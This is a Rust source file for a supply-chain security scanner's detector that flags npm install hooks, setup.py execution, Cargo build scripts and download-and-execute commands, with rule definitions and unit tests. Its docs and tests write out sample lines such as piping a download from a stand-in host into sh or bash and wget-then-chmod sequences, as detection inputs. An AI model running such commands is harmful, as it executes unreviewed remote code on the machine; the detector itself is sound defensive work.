//! Code that runs when a delivery is installed or built, and downloads that
//! are executed.
//!
//! # What it detects
//!
//! * `malicious.install-script` (high): npm lifecycle scripts that run on the
//!   machine installing or removing the package (`preinstall`, `install`,
//!   `postinstall`, `preuninstall`, `uninstall`, `postuninstall`), and
//!   `prepare`/`prepublish` scripts (which run on installs from git) when
//!   they reach the network or evaluate code (`curl`, `node -e`, `base64`…).
//!   Scripts that call `npm run x` are followed to what `x` runs.
//! * `malicious.setup-py-execution` (high): a `setup.py` that defines custom
//!   `install`/`develop`/`egg_info` commands, or that starts processes, opens
//!   network connections, evaluates code or decodes base64 (`subprocess`,
//!   `os.system`, `exec`, `urllib`, `requests`, `socket`, `b64decode`…), one
//!   finding per line. `exec(open(…).read())` (reading a version file) and
//!   `git` invocations are the usual benign idioms and are not reported.
//! * `malicious.build-script` (medium): a Cargo build script (`build.rs` with
//!   a `fn main`); the message says whether it starts processes or uses the
//!   network.
//! * `malicious.download-and-execute` (high): in any code, script, build
//!   file, Dockerfile, CI workflow or npm script, a download that is piped
//!   into an interpreter (`curl … | sh`, `iwr … | iex`), wrapped in one
//!   (`sh -c "$(curl …)"`, `IEX (New-Object Net.WebClient).DownloadString(…)`,
//!   `exec(urlopen(…).read())`), or saved and then made executable or run
//!   (`wget … -O f && chmod +x f`).
//!
//! # Why it matters
//!
//! Install hooks are how most malicious npm and PyPI packages run: the
//! payload executes on `npm install` or `pip install`, before anyone runs the
//! delivered software (event-stream, ua-parser-js, colourama…). Downloading
//! and executing code at build or install time means the code that runs was
//! never delivered, so it was never reviewed.
//!
//! # Example
//!
//! ```text
//! "scripts": { "preinstall": "curl -s https://x.example/i.sh | sh" }
//! ```
//!
//! # How to resolve or accept
//!
//! Ask the supplier to remove the hook or to explain it; replace downloads
//! by pinned, checksummed dependencies delivered with the source. Accept
//! hooks that only build delivered code (`node-gyp rebuild`, `tsc`) after
//! reading what they run.
//!
//! # References
//!
//! CWE-494 (Download of Code Without Integrity Check); CWE-506 (Embedded
//! Malicious Code); CWE-829; npm documentation of lifecycle scripts; MITRE
//! ATT&CK T1195.002 (Compromise Software Supply Chain).

mod build_rs;
mod download;
mod npm;
mod setup_py;

use oversight_detect::{Detector, Emit, FileInfo, Hit, Pattern, Scope, Sink, TextKind, Window};
use oversight_model::{Category, Rule, Severity};

use crate::text::{Capped, quote};

/// An npm lifecycle script that runs on install or uninstall.
pub static INSTALL_SCRIPT: Rule = Rule {
    id: "malicious.install-script",
    category: Category::Malicious,
    // Low: the hook's presence is a fact to review, not an attack; what the
    // hook runs is judged by the behaviour rules (`malicious.install-time-*`,
    // `malicious.shell-download-pipe`, …), which raise high findings.
    default_severity: Severity::Low,
    summary: "npm lifecycle script that runs when the package is installed",
    help: "Install hooks run arbitrary commands on every machine that installs the package; \
           most malicious npm packages use them. Remove the hook, or accept it after reading \
           what it runs (for example `node-gyp rebuild`).",
};

/// A `setup.py` that executes processes, network or hidden code.
pub static SETUP_PY_EXECUTION: Rule = Rule {
    id: "malicious.setup-py-execution",
    category: Category::Malicious,
    // Low for the same reason: builds run compilers and `git describe`; the
    // behaviour rules raise what a malicious setup.py does.
    default_severity: Severity::Low,
    summary: "setup.py runs processes, network calls or hidden code at install time",
    help: "setup.py runs on `pip install` from source: custom install commands, processes, \
           network access and decoded code there run on the installer's machine. Move the \
           logic out of setup.py or accept it after reading it.",
};

/// A Cargo build script.
pub static BUILD_SCRIPT: Rule = Rule {
    id: "malicious.build-script",
    category: Category::Malicious,
    default_severity: Severity::Medium,
    summary: "Cargo build script that runs at build time",
    help: "build.rs runs with the builder's privileges on every build. Read it; accept it when \
           it only compiles or generates code from delivered files.",
};

/// A download that is executed.
pub static DOWNLOAD_AND_EXECUTE: Rule = Rule {
    id: "malicious.download-and-execute",
    category: Category::Malicious,
    default_severity: Severity::High,
    summary: "Code downloaded and executed (`curl | sh` and the like)",
    help: "Code fetched at build or install time was never delivered, so it was never reviewed, \
           and can change at any time. Deliver the code or a pinned, checksummed dependency \
           instead.",
};

static RULES: [&Rule; 4] = [
    &INSTALL_SCRIPT,
    &SETUP_PY_EXECUTION,
    &BUILD_SCRIPT,
    &DOWNLOAD_AND_EXECUTE,
];

/// The largest `package.json` parsed.
const PACKAGE_JSON_LIMIT: u64 = 16 * 1024 * 1024;

/// The largest `setup.py` or `build.rs` read.
const SCRIPT_LIMIT: u64 = 4 * 1024 * 1024;

/// How far before a download keyword its line is examined.
const REACH_BEFORE: usize = 1024;

/// How far after a download keyword its line is examined.
const REACH_AFTER: usize = 2048;

/// The detector of install-time execution.
#[derive(Debug, Default, Clone, Copy)]
pub struct InstallHooks;

impl Detector for InstallHooks {
    fn name(&self) -> &'static str {
        "install_hooks"
    }

    fn rules(&self) -> &'static [&'static Rule] {
        &RULES
    }

    fn patterns(&self) -> Vec<Pattern> {
        download::KEYWORDS
            .iter()
            .map(|k| Pattern::new(k, Scope::Text))
            .collect()
    }

    fn whole_file_limit(&self, file: &FileInfo<'_>) -> Option<u64> {
        match file.file_name() {
            "package.json" => Some(PACKAGE_JSON_LIMIT),
            "setup.py" | "build.rs" => Some(SCRIPT_LIMIT),
            _ => None,
        }
    }

    fn check_whole(&self, file: &FileInfo<'_>, content: &[u8], sink: &mut dyn Sink) {
        match file.file_name() {
            "package.json" => npm::check(content, sink),
            "setup.py" => setup_py::check(content, sink),
            "build.rs" => build_rs::check(content, sink),
            _ => {}
        }
    }

    fn on_hits(&self, file: &FileInfo<'_>, window: &Window<'_>, hits: &[Hit], sink: &mut dyn Sink) {
        if !examines_downloads(file) {
            return;
        }
        let bytes = window.bytes();
        let mut sink = Capped::new(sink);
        let mut covered_until = 0u64;
        for hit in hits {
            if hit.start < covered_until {
                continue;
            }
            let at = window.index(hit.start);
            let len = window.index(hit.end) - at;
            if len == 0 || !download::keyword_stands_alone(bytes, at, len) {
                continue;
            }
            let (start, end) = logical_line(bytes, at);
            let text_start = start.max(at.saturating_sub(REACH_BEFORE));
            let text_end = (end.min(at + REACH_AFTER) + 1536).min(bytes.len());
            let line_end = end.min(at + REACH_AFTER);
            let text = &bytes[text_start..text_end];
            let Some(found) =
                download::analyse(text, 0, at - text_start, len, line_end - text_start)
            else {
                continue;
            };
            covered_until = window.offset() + line_end as u64;
            let statement = &bytes[text_start..line_end];
            let keyword = String::from_utf8_lossy(&bytes[at..at + len]).into_owned();
            let message = format!(
                "Downloads code with `{keyword}` and {}: `{}`",
                found.how,
                quote(statement)
            );
            let emit = Emit::at(
                &DOWNLOAD_AND_EXECUTE,
                window.line_col(window.offset() + text_start as u64),
                message,
                statement.to_vec(),
            )
            .with_snippet(quote(statement));
            sink.emit(emit);
        }
        sink.finish(&DOWNLOAD_AND_EXECUTE);
    }
}

/// Whether downloads are looked for in `file`: code, scripts, build files and
/// configuration, but neither prose nor markup documents (which quote install
/// commands for humans), nor `package.json`, whose scripts [`npm`] reads.
fn examines_downloads(file: &FileInfo<'_>) -> bool {
    // `package.json` scripts are read by [`npm`]; package metadata and
    // READMEs without an extension are prose.
    const NOT_CODE: [&str; 7] = [
        "package.json",
        "METADATA",
        "PKG-INFO",
        "README",
        "INSTALL",
        "NEWS",
        "CHANGELOG",
    ];
    if NOT_CODE.contains(&file.file_name()) {
        return false;
    }
    // CMake's build files end in `.txt` but are code.
    if file.text_kind() == TextKind::Prose
        && !file.file_name().eq_ignore_ascii_case("CMakeLists.txt")
    {
        return false;
    }
    let markup = ["html", "htm", "xhtml", "xml", "svg", "ipynb"];
    !file
        .path
        .extension()
        .is_some_and(|e| markup.contains(&e.as_str()))
}

/// The logical line around `at`: the physical line, extended over lines
/// continued with a trailing `\`, `&&` or `|` (shell, Makefile, Dockerfile),
/// at most a few lines each way.
fn logical_line(bytes: &[u8], at: usize) -> (usize, usize) {
    let line_start = |i: usize| memchr::memrchr(b'\n', &bytes[..i]).map_or(0, |n| n + 1);
    let line_end = |i: usize| memchr::memchr(b'\n', &bytes[i..]).map_or(bytes.len(), |n| i + n);
    let continued = |end: usize| {
        let line = &bytes[..end];
        let trimmed = line.trim_ascii_end();
        trimmed.ends_with(b"\\") || trimmed.ends_with(b"&&") || trimmed.ends_with(b"|")
    };
    let lower = at.saturating_sub(REACH_BEFORE);
    let upper = (at + REACH_AFTER).min(bytes.len());
    let mut start = line_start(at).max(lower);
    for _ in 0..4 {
        if start <= lower + 1 || start == 0 || !continued(start - 1) {
            break;
        }
        start = line_start(start - 1).max(lower);
    }
    let mut end = line_end(at).min(upper);
    for _ in 0..4 {
        if end >= upper || !continued(end) {
            break;
        }
        end = line_end(end + 1).min(upper);
    }
    (start, end)
}

#[cfg(test)]
mod tests {
    use super::*;
    use oversight_detect::reference::run_detector;

    fn ids(path: &str, text: &str) -> Vec<&'static str> {
        run_detector(&InstallHooks, path, text.as_bytes())
            .into_iter()
            .map(|e| e.rule.id)
            .collect()
    }

    #[test]
    fn continued_lines_are_one_command() {
        let text = "RUN wget https://x.example/tool \\\n    -O /usr/local/bin/tool \\\n && chmod 755 /usr/local/bin/tool\n";
        assert_eq!(ids("Dockerfile", text), ["malicious.download-and-execute"]);
    }

    #[test]
    fn prose_and_words_containing_keywords_are_ignored() {
        assert!(ids("INSTALL.md", "curl https://x.example | sh\n").is_empty());
        assert!(ids("a.c", "int curly = firmware(); // wget\n").is_empty());
        assert!(ids("index.html", "<pre>curl https://x.example | sh</pre>\n").is_empty());
    }

    #[test]
    fn the_line_and_column_are_those_of_the_command() {
        let text = "#!/bin/sh\nset -e\n  curl -fsSL https://x.example/i | bash\n";
        let found = run_detector(&InstallHooks, "install", text.as_bytes());
        assert_eq!(found.len(), 1);
        assert_eq!(found[0].line_col, Some((3, 1)));
        assert!(
            found[0].message.contains("pipes it into `bash`"),
            "{}",
            found[0].message
        );
    }
}
